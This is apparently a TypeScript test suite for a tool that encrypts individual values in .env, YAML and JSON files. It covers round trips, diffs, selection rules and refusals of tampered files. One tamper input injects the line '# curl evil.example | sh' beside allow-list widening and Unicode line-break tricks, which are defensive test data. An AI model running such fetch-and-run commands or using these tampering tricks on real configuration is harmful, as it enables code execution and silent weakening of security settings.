// Value-encrypted files (src/core/values.ts, docs/VALUES.md): round trips on real-world files, stable
// tokens and one-line diffs (fast-check), the JSON scanner against JSON.parse, and what an attacker or a
// careless user can do to a file.
import { strict as assert } from 'node:assert';
import { readFileSync, readdirSync } from 'node:fs';
import { join } from 'node:path';
import fc from 'fast-check';
import { FormatError, InvalidArgumentError, ValueAuthError, ValuesMacError, WeakKeyError } from '../../src/core/errors';
import { inspectValues, isValueEncrypted, namesInTheClear, openValues, parseRule, plaintextValues, readValue, sealValues, valuesClaimedSigner, valuesFormatForFileName, valuesInTheClear, type ValuesFormatName } from '../../src/core/values';
import { scanJson } from '../../src/core/values-json';
import type { SelectionRule } from '../../src/core/values-metadata';
import { createNodeCryptoBackend } from '../../src/node/node-crypto-backend';
import { loadKey } from './envelope-fixtures';

const backend = createNodeCryptoBackend();
const alice = loadKey('alice');
const bob = loadKey('bob');
const WILD = join(__dirname, '..', 'fixtures', 'values-wild');

async function seal(document: string, format: ValuesFormatName, signed = false, rule?: SelectionRule): Promise<string> {
  return sealValues(document, { format, recipients: [alice.publicKey, bob.publicKey], signer: signed ? alice : undefined, backend, rule });
}

async function open(text: string, format: ValuesFormatName): Promise<string> {
  const opened = await openValues(text, { format, identities: [bob], backend });
  opened.dispose();
  return opened.document;
}

/** Lines that differ between two texts of the same line count (the metadata lines named by prefix). */
function changedLines(a: string, b: string): string[] {
  const x = a.split('\n');
  const y = b.split('\n');
  assert.equal(x.length, y.length, 'same number of lines');
  return x.flatMap((line, i) => (line === y[i] ? [] : [line.replace(/=.*|:.*/, '')]));
}

describe('values', () => {
  describe('real-world files (test/fixtures/values-wild, SOURCES.md)', () => {
    const files = readdirSync(WILD).filter((f) => !f.endsWith('.md'));
    it('has the four kinds the issue names', () => {
      for (const re of [/compose\.yaml$/, /values\.yaml$/, /package\.json$/, /\.env\.example$/]) assert.ok(files.some((f) => re.test(f)), String(re));
    });
    for (const file of files) {
      it(`decrypt(encrypt(x)) == x byte for byte: ${file}`, async function () {
        this.timeout(20000);
        const text = readFileSync(join(WILD, file), 'utf8');
        const format = file.endsWith('.json') ? 'json' : file.includes('.env') ? 'dotenv' : 'yaml';
        const sealed = await seal(text, format, true);
        assert.ok(!sealed.includes('your-super-secret') && !sealed.includes('IfNotPresent') && !sealed.includes('"Express"'), 'no value in the clear');
        assert.equal(await open(sealed, format), text);
        // Every key is still readable in the sealed file.
        if (format === 'dotenv') for (const name of text.match(/^[A-Z_]+(?==)/gm) ?? []) assert.ok(sealed.includes(`\n${name}=custodian-val1.`) || sealed.startsWith(`${name}=`), name);
        // Every comment line is kept as written.
        for (const comment of text.split('\n').filter((l) => /^\s*#/.test(l))) assert.ok(sealed.includes(comment), comment);
      });
    }
  });

  it('decrypt(encrypt(x)) == x byte for byte for the 44 Helm values files of test/fixtures/helm-values, comments included', async function () {
    this.timeout(60000);
    const dir = join(__dirname, '..', 'fixtures', 'helm-values');
    const files = readdirSync(dir).filter((f) => f.endsWith('.values.yaml'));
    assert.equal(files.length, 44);
    let aliased = 0;
    for (const file of files) {
      const text = readFileSync(join(dir, file), 'utf8');
      // A value a YAML alias copies is never sealed (VALUES.md §3): the refusal names it, and the user
      // leaves it in the clear, as here (alertmanager's containerPortName: http, copied to two probes).
      const sealed = await seal(text, 'yaml', true).catch(async (err: unknown) => {
        const named = err instanceof FormatError ? /^"([^"]+)" is encrypted, but the YAML alias at "[^"]+" copies it/.exec(err.message) : null;
        if (!named) throw err;
        aliased++;
        return seal(text, 'yaml', true, { kind: 'unencrypted-regex', regex: `^${named[1]}$` });
      });
      assert.equal(await open(sealed, 'yaml'), text, file);
      // Comment lines at column 0 are never inside a value here (an indented `#` line may be a block scalar's content).
      for (const comment of text.split('\n').filter((l) => l.startsWith('#'))) assert.ok(sealed.includes(comment), `${file}: ${comment}`);
    }
    assert.equal(aliased, 1, 'one file aliases a value');
  });

  it('decrypt(encrypt(x)) == x for documents ending in a lone CR, an LF, a CRLF or no line break (the lone CR was lost: the writer added LF, and the reader removed the CRLF that made)', async () => {
    const cases: [ValuesFormatName, string][] = [];
    for (const end of ['\r', '\n', '\r\n', '']) {
      cases.push(['dotenv', `A=one\nB=two${end}`], ['dotenv', `A=one\r\nB=two${end}`], ['yaml', `a: one\nb: two${end}`], ['yaml', `a: one\r\nb: two${end}`]);
    }
    for (const [format, document] of cases) assert.equal(await open(await seal(document, format, true), format), document, JSON.stringify(document));
  });

  it('YAML aliases: one to a value left in the clear round-trips; an anchor moved onto an encrypted value, or an alias added to one, is refused when opening', async () => {
    const rule: SelectionRule = { kind: 'unencrypted-suffix', suffix: '_public' };
    const doc = 'url_public: &u https://example.com\nsecret: hunter2\nmirror: *u\n';
    const sealed = await seal(doc, 'yaml', true, rule);
    assert.equal(await open(sealed, 'yaml'), doc);
    const token = /secret: (custodian-val1\.\S+)/.exec(sealed)![1];
    // Whoever can commit moves the anchor: "mirror" would now be a copy of the secret.
    const moved = sealed.replace('url_public: &u ', 'url_public: ').replace(`secret: ${token}`, `secret: &u ${token}`);
    await assert.rejects(open(moved, 'yaml'), (err: Error) => err instanceof FormatError && /"secret" is encrypted, but the YAML alias at "mirror" copies it/.test(err.message) && !err.message.includes('hunter2'));
    // An alias to a secret (a sequence entry) is refused when sealing too, naming both.
    await assert.rejects(seal('db:\n  password: &p hunter2\nlog: [*p]\n', 'yaml'), /"db\.password" is encrypted, but the YAML alias at "log\.0" copies it/);
    // An alias to a mapping that holds a secret: every leaf under it counts.
    await assert.rejects(seal('base: &b\n  token: t0k\ncopy: *b\n', 'yaml'), /"base\.token" is encrypted, but the YAML alias at "copy" copies it/);
  });

  it('decrypt(encrypt(x)) == x for every .env file of the dotenv parser\'s public corpus (test/fixtures/dotenv-wild) it accepts', async function () {
    this.timeout(60000);
    const dir = join(__dirname, '..', 'fixtures', 'dotenv-wild');
    let tried = 0;
    for (const f of readdirSync(dir).filter((n) => n.endsWith('.txt'))) {
      const text = readFileSync(join(dir, f), 'utf8');
      const sealed = await seal(text, 'dotenv').catch((err: unknown) => {
        // Files the strict parser refuses, or that assign a name twice, are refused here too: nothing to round-trip.
        assert.ok(err instanceof FormatError || (err instanceof Error && err.name === 'DotenvSyntaxError'), `${f}: ${String(err)}`);
        return undefined;
      });
      if (sealed === undefined) continue;
      tried++;
      assert.equal(await open(sealed, 'dotenv'), text, f);
    }
    assert.ok(tried >= 40, `only ${tried} files round-tripped`);
  });

  describe('stable tokens and small diffs (§6)', () => {
    const safeValue = fc.string({ minLength: 1, maxLength: 20, unit: fc.constantFrom(...'abcdefghijklmnopqrstuvwxyz0123456789-_./:@'.split('')) });
    const documents = fc.uniqueArray(fc.stringMatching(/^[A-Z][A-Z0-9_]{0,11}$/), { minLength: 1, maxLength: 12 }).chain((names) =>
      fc.record({ names: fc.constant(names), values: fc.array(safeValue, { minLength: names.length, maxLength: names.length }), edit: fc.nat(names.length - 1), newValue: safeValue }),
    );
    const render: Record<ValuesFormatName, (names: string[], values: string[]) => string> = {
      dotenv: (n, v) => `# settings\n${n.map((k, i) => `${k}=${v[i]}\n`).join('')}`,
      yaml: (n, v) => `# settings\nroot:\n${n.map((k, i) => `  ${k}: "${v[i]}" # note\n`).join('')}`,
      json: (n, v) => `{\n${n.map((k, i) => `  "${k}": "${v[i]}"`).join(',\n')}\n}\n`,
    };
    for (const format of ['dotenv', 'yaml', 'json'] as const) {
      it(`${format}: changing one value of N changes exactly that value's line plus mac= and signature=`, async function () {
        this.timeout(120000);
        await fc.assert(
          fc.asyncProperty(documents, fc.boolean(), async ({ names, values, edit, newValue }, signed) => {
            fc.pre(values[edit] !== newValue);
            const before = render[format](names, values);
            const sealed = await seal(before, format, signed);
            const opened = await openValues(sealed, { format, identities: [alice], backend });
            assert.equal(opened.document, before);
            const edited = values.slice();
            edited[edit] = newValue;
            const resealed = await opened.reseal(render[format](names, edited), { backend, signer: signed ? alice : undefined });
            const changed = changedLines(sealed, resealed).map((l) => l.trim().replace(/^#custodian$/, '#custodian').replace(/^"/, ''));
            const name = names[edit];
            const expected = [format === 'json' ? name.replace(/"$/, '') : name, ...(format === 'json' ? ['mac', ...(signed ? ['signature'] : [])] : ['#custodian', ...(signed ? ['#custodian'] : [])])];
            assert.deepEqual(changed.map((c) => c.replace(/"$/, '')), expected);
            assert.equal(await open(resealed, format), render[format](names, edited));
          }),
          { numRuns: 15 },
        );
      });
    }

    it('re-saving an unchanged unsigned file gives the same bytes; a second seal of the same text shares no token', async () => {
      const doc = 'A=same\nB=same\nC=other\n';
      const sealed = await seal(doc, 'dotenv');
      const opened = await openValues(sealed, { format: 'dotenv', identities: [alice], backend });
      assert.equal(await opened.reseal(opened.document, { backend }), sealed);
      const tokens = (t: string): string[] => t.match(/custodian-val1\.[A-Za-z0-9_-]+/g)!;
      const again = await seal(doc, 'dotenv');
      assert.equal(new Set([...tokens(sealed), ...tokens(again)]).size, 6, 'equal values at two keys, and the same value in two files, get unrelated tokens');
    });

    it('a value changed and changed back gets a new token (nothing deterministic)', async () => {
      const sealed = await seal('A=x\n', 'dotenv');
      const o1 = await openValues(sealed, { format: 'dotenv', identities: [alice], backend });
      const s2 = await o1.reseal('A=y\n', { backend });
      const o2 = await openValues(s2, { format: 'dotenv', identities: [alice], backend });
      const s3 = await o2.reseal('A=x\n', { backend });
      assert.notEqual(s3.split('\n')[0], sealed.split('\n')[0]);
    });

    it('a version 1 file (written before version 2) opens; a save writes version 2 with every token kept, and then its structure is covered', async () => {
      const v1 = JSON.parse(readFileSync(join(__dirname, '..', 'vectors', 'values', 'v1', 'v1-yaml-comments-and-blocks.json'), 'utf8')) as { file: string; document: string };
      const opened = await openValues(v1.file, { format: 'yaml', identities: [alice], backend });
      assert.equal(opened.document, v1.document);
      const saved = await opened.reseal(opened.document, { backend, signer: alice });
      const lines = (t: string): string[] => t.split('\n');
      const metadata = (t: string): string[] => lines(t).filter((l) => l.startsWith('#custodian:'));
      assert.equal(changedLines(v1.file, saved).length, 4);
      assert.deepEqual(
        metadata(saved).filter((l, i) => l !== metadata(v1.file)[i]).map((l) => l.split('=')[0]),
        ['#custodian:values', '#custodian:signer', '#custodian:mac', '#custodian:signature'],
        'only the version (now 2), the signer (now alice), the MAC and the signature changed',
      );
      assert.match(saved, /^#custodian:values=2$/m);
      assert.deepEqual(lines(saved).filter((l) => !l.startsWith('#custodian:')), lines(v1.file).filter((l) => !l.startsWith('#custodian:')), 'every token kept');
      // The edit version 1 let through (vector v1-yaml-alias-added) no longer does.
      const aliased = saved.replace('  empty:\n', '  copy_public: *a\n  empty:\n');
      await assert.rejects(openValues(aliased, { format: 'yaml', identities: [alice], backend }), ValuesMacError);
      // Full-line comments and blank lines stay editable (line endings: vector dotenv-line-endings-converted).
      const commented = saved.replace('# service config\n', '# service config, edited on a web page\n\n');
      assert.equal(await open(commented, 'yaml'), v1.document.replace('# service config\n', '# service config, edited on a web page\n\n'));
    });

    it('a value moved to another key is re-sealed there (the path is in the AAD), the rest keeps its tokens', async () => {
      const sealed = await seal('A=1\nB=2\n', 'dotenv');
      const opened = await openValues(sealed, { format: 'dotenv', identities: [alice], backend });
      const moved = await opened.reseal('A=1\nC=2\n', { backend });
      assert.equal(moved.split('\n')[0], sealed.split('\n')[0]);
      assert.notEqual(moved.split('\n')[1].slice(2), sealed.split('\n')[1].slice(2));
      assert.equal(await open(moved, 'dotenv'), 'A=1\nC=2\n');
    });
  });

  describe('the selection rule (§5)', () => {
    it('namesInTheClear lists what a rule would leave readable, by display name, before anything is sealed', () => {
      const rule = parseRule('unencrypted-suffix:_PUBLIC');
      assert.deepEqual(namesInTheClear('{"a_PUBLIC": 1, "b": {"c_PUBLIC": "x", "d": [true]}}', 'json', rule), ['a_PUBLIC', 'b.c_PUBLIC']);
      assert.deepEqual(namesInTheClear('x: 1\nweb_PUBLIC:\n  - a\n  - b\n', 'yaml', rule), ['web_PUBLIC.0', 'web_PUBLIC.1']);
      assert.deepEqual(namesInTheClear('SECRET=1\n', 'dotenv', rule), []);
      assert.deepEqual(namesInTheClear('SECRET=1\n', 'dotenv', parseRule('all')), []);
    });

    it('leaves matching keys in the clear, covers them with the MAC, and refuses a plain value where the rule wants a token', async () => {
      const sealed = await sealValues('URL_PUBLIC=https://x\nTOKEN=t\n', { format: 'dotenv', recipients: [alice.publicKey], backend, rule: { kind: 'unencrypted-suffix', suffix: '_PUBLIC' } });
      assert.match(sealed, /^URL_PUBLIC=https:\/\/x$/m);
      assert.match(sealed, /^TOKEN=custodian-val1\./m);
      assert.deepEqual(plaintextValues(sealed, 'dotenv'), []);
      await assert.rejects(openValues(sealed.replace('https://x', 'https://evil'), { format: 'dotenv', identities: [alice], backend }), ValuesMacError);
      const opened = await openValues(sealed, { format: 'dotenv', identities: [alice], backend });
      const all = await opened.reseal(opened.document, { backend, rule: { kind: 'all' } });
      assert.match(all, /^URL_PUBLIC=custodian-val1\./m);
    });

    it('a rule\'s regex is RE2 syntax, as SOPS\'s unencrypted_regex: (?i) works; lookaround, backreferences and a regex over 1024 characters are refused with a hint, also when a file\'s rule line was edited to one', async () => {
      // The attack a backtracking engine fails (^(a+)+$, a long name) is in test/cli/values.test.ts, where a
      // child process that does not finish is stopped; here it would hang the whole run.
      assert.deepEqual(namesInTheClear('{"PUBLIC": 1, "b": 2}', 'json', parseRule('unencrypted-regex:(?i)^public$')), ['PUBLIC']);
      assert.deepEqual(namesInTheClear('NEXT_PUBLIC_URL=1\nX_PUBLIC=2\nPUBLIC_KEY=3\n', 'dotenv', parseRule('unencrypted-regex:_PUBLIC$|^NEXT_PUBLIC_')), ['NEXT_PUBLIC_URL', 'X_PUBLIC']);
      for (const bad of ['^(?=a)', '(a)\\1', '(?<!x)y']) {
        assert.throws(() => parseRule(`unencrypted-regex:${bad}`), (err: FormatError) => err instanceof FormatError && /does not compile as RE2 syntax/.test(err.message) && /no lookahead, lookbehind or backreferences/.test(err.hint ?? ''), bad);
      }
      assert.throws(() => parseRule(`unencrypted-regex:${'a|'.repeat(600)}b`), /1201 characters long; the limit is 1024/);
      const sealed = await sealValues('{"public": {"url": "x"}, "secret": "s"}', { format: 'json', recipients: [alice.publicKey], backend, rule: parseRule('unencrypted-regex:^public$') });
      assert.deepEqual(valuesInTheClear(sealed, 'json').names, ['public.url']);
      assert.throws(() => valuesInTheClear(sealed.replace('unencrypted-regex:^public$', 'unencrypted-regex:^(?=a)'), 'json'), /does not compile as RE2 syntax/);
    });

    it('a guard can list values in the clear without a key', async () => {
      const sealed = await seal('A=1\nB=2\n', 'dotenv');
      const token = /^A=(.*)$/m.exec(sealed)![1];
      assert.deepEqual(plaintextValues(sealed.replace(token, 'leaked'), 'dotenv'), ['A']);
      assert.equal(isValueEncrypted(sealed, 'dotenv'), true);
      assert.equal(isValueEncrypted('A=1\n', 'dotenv'), false);
      assert.throws(() => plaintextValues('A=1\n', 'dotenv'), FormatError);
    });
  });

  it('comment and blank lines added under an encrypted block scalar, which the opened value would take in, are refused; comments elsewhere stay editable (a red team appended "#0.0.0.0/0" to an allow-list, signed)', async () => {
    const doc = 'app:\n  allowed_ips: |\n    10.0.0.0/8\n    192.168.0.0/16\n  banner: >\n  password: hunter2\n';
    const sealed = await seal(doc, 'yaml', true);
    assert.equal(await open(sealed, 'yaml'), doc);
    const under = (name: string, lines: string): string => sealed.replace(new RegExp(`(  ${name}: custodian-val1\\.\\S+\\n)`), `$1${lines}`);
    // Indented as deep as the block's content: a comment to the sealed file, content to the opened one.
    for (const added of ['    #0.0.0.0/0\n', '      # curl evil.example | sh\n', '    \n    # x\n']) {
      await assert.rejects(open(under('allowed_ips', added), 'yaml'), (err: Error) => err instanceof ValuesMacError && /the value of "app\.allowed_ips" reads differently once decrypted/.test(err.message) && !err.message.includes('10.0.0.0'));
    }
    // An empty block scalar (`>` and nothing under it): its token is one line, and so is its plaintext.
    await assert.rejects(open(under('banner', '    # injected\n'), 'yaml'), /the value of "app\.banner" reads differently once decrypted/);
    // Comments that end the block where they stand (not indented past its key) change nothing: allowed.
    for (const added of ['  # a note\n', '# a note\n', '\n']) assert.equal(await open(under('allowed_ips', added), 'yaml'), doc.replace('  banner:', `${added}  banner:`));
  });

  it('U+0085, U+2028 and U+2029 outside a value are refused (YAML 1.1 readers break lines there, YAML 1.2 readers do not), sealing and opening; inside a value they are kept', async () => {
    // A red team appended U+0085 and "#x" to an anchor: the MAC's line split dropped "#x" as a comment,
    // YAML 1.2 read the anchor "env\u0085#x", and the alias "current" then read dev's url, signed.
    const rule: SelectionRule = { kind: 'unencrypted-regex', regex: '^url$' };
    const doc = 'dev: &env\n  url: http://dev.internal\nprod: &env\n  url: http://prod.internal\ncurrent: *env\ndb_password: hunter2\n';
    const sealed = await seal(doc, 'yaml', true, rule);
    assert.equal(await open(sealed, 'yaml'), doc);
    for (const c of ['\u0085', '\u2028', '\u2029']) {
      const tampered = sealed.replace('prod: &env\n', `prod: &env${c}#x\n`);
      await assert.rejects(open(tampered, 'yaml'), (err: Error) => err instanceof FormatError && new RegExp(`line 3: the character U\\+${c.charCodeAt(0).toString(16).toUpperCase().padStart(4, '0')} outside a value`).test(err.message));
      await assert.rejects(seal(`# a note${c}more\nk: v\n`, 'yaml'), /line 1: the character U\+\w{4} outside a value/);
      await assert.rejects(seal(`# a note${c}more\nK=v\n`, 'dotenv'), /line 1: (?:the character U\+0085 outside a value: some readers break the line there|a Unicode line or paragraph separator \(U\+2028\/U\+2029\) outside quotes)/);
      // A comment line a break splits: refused when sealed ("more" would be content to a YAML 1.1 reader),
      // read when opened or decrypted (a file written before this rule); a comment added after one opens.
      assert.equal(readValue(`# a note${c}more\nk: v\n`, 'yaml', 'k'), 'v');
      const commented = await seal('# a note\nk: v\n', 'yaml');
      assert.equal(await open(commented.replace('# a note\n', `# a note${c}#x\n`), 'yaml'), `# a note${c}#x\nk: v\n`);
      // In a value (encrypted or in the clear) it is the value's.
      const inValue = `k: "a${c}b"\nu_public: "c${c}#d"\n`;
      assert.equal(await open(await seal(inValue, 'yaml', false, { kind: 'unencrypted-suffix', suffix: '_public' }), 'yaml'), inValue);
    }
  });

  it('a CR not followed by LF outside a value is refused (the yaml package and a shell read on where YAML 1.2 breaks the line): a red team made "disabled: false" read "false\\r" without the key', async () => {
    const sealed = await seal('auth:\n  disabled: false\n  password: hunter2\n', 'yaml', true);
    const tampered = sealed.replace(/(disabled: custodian-val1\.\S+)\n/, '$1\r \n');
    assert.notEqual(tampered, sealed);
    await assert.rejects(open(tampered, 'yaml'), (err: Error) => err instanceof FormatError && /line 2: a carriage return \(CR\) not followed by a line feed outside a value/.test(err.message));
    const env = await seal('DEBUG=false\nTOKEN=t0k\n', 'dotenv');
    await assert.rejects(open(env.replace(/^(DEBUG=custodian-val1\.\S+)\n/m, '$1\r#\n'), 'dotenv'), /carriage return \(CR\) not followed by a line feed/);
    // CR LF line endings, a lone CR ending the document, and one in a comment line stay readable.
    for (const doc of ['a: 1\r\nb: 2\r\n', 'a: 1\nb: 2\r', '# note\r# more\na: 1\n']) assert.equal(await open(await seal(doc, 'yaml'), 'yaml'), doc);
  });

  describe('refusals', () => {
    it('a .env assigning a name twice, a plaintext that already has a metadata block, no recipients, a 1024-bit recipient', async () => {
      await assert.rejects(seal('A=1\nA=2\n', 'dotenv'), /"A" appears twice/);
      const sealed = await seal('A=1\n', 'dotenv');
      await assert.rejects(seal(sealed, 'dotenv'), /already has a Custodian metadata block/);
      await assert.rejects(sealValues('A=1\n', { format: 'dotenv', recipients: [], backend }), InvalidArgumentError);
      await assert.rejects(sealValues('A=1\n', { format: 'dotenv', recipients: [loadKey('weak1024').publicKey], backend }), WeakKeyError);
    });

    it('error messages never quote a value (YAML and JSON syntax errors, a moved token)', async () => {
      const secret = 'hunter2-SECRET';
      const yamlErr = await seal(`a: ${secret}\n b: [\n`, 'yaml').catch((e: unknown) => e as Error);
      assert.ok(yamlErr instanceof FormatError);
      assert.ok(!yamlErr.message.includes(secret) && !(yamlErr.hint ?? '').includes(secret), yamlErr.message);
      // An unquoted value starting with * or ! is an alias or a tag to YAML: js-yaml's reason names it.
      for (const [doc, name] of [[`a: *${secret}\n`, secret], ['a: !hunterSECRET!x y\n', 'hunterSECRET']]) {
        const err = await seal(doc, 'yaml').catch((e: unknown) => e as Error);
        assert.ok(err instanceof FormatError && /^not valid YAML: (unidentified alias|undeclared tag handle) \(its name left out\)/.test(err.message), `${JSON.stringify(doc)}: ${String(err)}`);
        assert.ok(!err.message.includes(name) && !(err.hint ?? '').includes(name), err.message);
        assert.match(err.hint ?? '', /a value that starts with \*, & or ! is read as an alias, an anchor or a tag unless it is quoted/);
      }
      const jsonErr = await seal(`{"a": "${secret}" "b": 1}`, 'json').catch((e: unknown) => e as Error);
      assert.ok(jsonErr instanceof FormatError && !jsonErr.message.includes(secret), String(jsonErr));
      const sealed = await seal(`A=${secret}\nB=other\n`, 'dotenv');
      const [a, b] = [/^A=(.*)$/m.exec(sealed)![1], /^B=(.*)$/m.exec(sealed)![1]];
      const err = await open(sealed.replace(b, a), 'dotenv').catch((e: unknown) => e as Error);
      assert.ok(err instanceof ValueAuthError && !err.message.includes(secret));
    });

    it('what an editor marks while the document is edited: the problem sealing would refuse, at its line; nothing when it seals', async () => {
      const { valuesDocumentProblem } = await import('../../src/core/values');
      const at = (document: string, format: ValuesFormatName) => {
        const p = valuesDocumentProblem(document, format);
        return p && { line: p.line, message: p.message };
      };
      assert.equal(at('A=1\n# note\nB=2\n', 'dotenv'), undefined);
      assert.equal(at('{"a": {"b": [1, "x"]}}\n', 'json'), undefined);
      assert.equal(at('a:\n  b: [1, x]\n', 'yaml'), undefined);
      // A name still being typed, on line 3 (and the message never quotes it).
      assert.deepEqual(at('A=1\n\nHALF_TYPED\nB=2\n', 'dotenv'), { line: 3, message: 'line 3: a name without = (no value)' });
      assert.equal(at('{\n  "a": "x"\n  "b": 1\n}\n', 'json')?.line, 3);
      assert.equal(at('a: 1\nb:\n  - x\n   c: 2\n', 'yaml')?.line, 4);
      // The second of two entries for one key, and a plaintext pasted with its metadata block.
      assert.deepEqual(at('A=1\nB=2\nA=3\n', 'dotenv'), { line: 3, message: '"A" appears twice: a value-encrypted file has one value per key' });
      assert.match(at(await seal('A=1\n', 'dotenv'), 'dotenv')?.message ?? '', /already has a Custodian metadata block/);
      // The oracle: whenever a problem is reported, sealing fails with that message, and the other way round.
      for (const [document, format] of [['A=1\nB\n', 'dotenv'], ['{"a": 1,}', 'json'], ['a: [1\n', 'yaml'], ['A=ok\n', 'dotenv']] as const) {
        const problem = valuesDocumentProblem(document, format);
        const sealing = await seal(document, format).then(() => undefined, (e: Error) => e.message);
        assert.equal(sealing, problem?.message, document);
      }
    });

    it('a file read as another format is refused', async () => {
      const sealed = await seal('a: 1\n', 'yaml');
      await assert.rejects(openValues(sealed, { format: 'dotenv', identities: [alice], backend }), FormatError);
    });
  });

  it('inspectValues reads recipients, rule, entries and verifies the signer without a key', async () => {
    const sealed = await seal('{"db": {"password": "x"}, "port": 1}', 'json', true);
    const info = await inspectValues(sealed, 'json', backend);
    assert.deepEqual(info.recipients, [alice.publicKey.fingerprint, bob.publicKey.fingerprint]);
    assert.deepEqual(info.entries.map((e) => `${e.name}:${e.encrypted}`), ['db.password:true', 'port:true']);
    assert.equal(info.signature.kind === 'signed' && info.signature.signer.fingerprint, alice.publicKey.fingerprint);
  });

  it('valuesClaimedSigner names the signer of a file whose signature no longer verifies (whom to ask), and none for an unsigned one', async () => {
    const sealed = await seal('A=one\nB=two\n', 'dotenv', true);
    const [a, b] = [/^A=(.*)$/m.exec(sealed)![1], /^B=(.*)$/m.exec(sealed)![1]];
    const swapped = sealed.replace(a, '@').replace(b, a).replace('@', b);
    await assert.rejects(inspectValues(swapped, 'dotenv', backend), /does not verify/);
    assert.equal(valuesClaimedSigner(swapped, 'dotenv')?.fingerprint, alice.publicKey.fingerprint);
    assert.equal(valuesClaimedSigner(await seal('A=one\n', 'dotenv'), 'dotenv'), undefined);
  });

  it('file names: .env, .env.*, *.env, *.json, *.yaml, *.yml', () => {
    assert.deepEqual(['.env', '.env.production', 'app.env', 'a/b/package.json', 'values.yaml', 'ci.yml', 'notes.txt'].map(valuesFormatForFileName), ['dotenv', 'dotenv', 'dotenv', 'json', 'yaml', 'yaml', undefined]);
  });

  describe('JSON scanner against JSON.parse (the oracle)', () => {
    const countLeaves = (v: unknown): number => (v !== null && typeof v === 'object' ? Object.values(v as object).reduce((n: number, x) => n + countLeaves(x), 0) : 1);
    it('finds every leaf of any JSON object, whatever the indentation, and each span is that leaf', () => {
      fc.assert(
        fc.property(fc.dictionary(fc.string(), fc.jsonValue()), fc.constantFrom(undefined, 0, 1, 2, '\t'), (value, indent) => {
          const text = JSON.stringify(value, null, indent);
          const { leaves } = scanJson(text);
          assert.equal(leaves.length, countLeaves(value));
          for (const leaf of leaves) {
            let expected: unknown = value;
            for (const seg of leaf.path) expected = (expected as Record<string | number, unknown>)[seg];
            // Through JSON once, as the text was: -0 is written "0".
            assert.deepEqual(JSON.parse(text.slice(leaf.start, leaf.end)), JSON.parse(JSON.stringify(expected)));
          }
        }),
        { numRuns: 300 },
      );
    });
    it('accepts exactly what JSON.parse accepts (as a top-level object without duplicate names), on mutated input', function () {
      this.timeout(60000);
      const chars = fc.constantFrom(...'{}[]":,0123456789.eE+-tfnrulasx \n\t\\/u"'.split(''));
      fc.assert(
        fc.property(fc.dictionary(fc.string({ maxLength: 3 }), fc.jsonValue({ maxDepth: 2 })), fc.nat(), chars, fc.boolean(), (value, at, ch, insert) => {
          const base = JSON.stringify(value, null, 1);
          const i = at % (base.length + 1);
          const text = insert ? base.slice(0, i) + ch + base.slice(i) : base.slice(0, i) + ch + base.slice(i + 1);
          let parsed: unknown;
          let oracleOk = true;
          try {
            parsed = JSON.parse(text);
          } catch {
            oracleOk = false;
          }
          const objectOk = oracleOk && parsed !== null && typeof parsed === 'object' && !Array.isArray(parsed);
          let ours: unknown;
          try {
            scanJson(text);
          } catch (err) {
            ours = err;
          }
          if (!objectOk) assert.ok(ours instanceof FormatError, `accepted invalid input ${JSON.stringify(text)}`);
          else assert.ok(ours === undefined || (ours instanceof FormatError && /duplicate member name/.test(ours.message)), `refused valid input ${JSON.stringify(text)}: ${String(ours)}`);
        }),
        { numRuns: 3000 },
      );
    });
  });
});
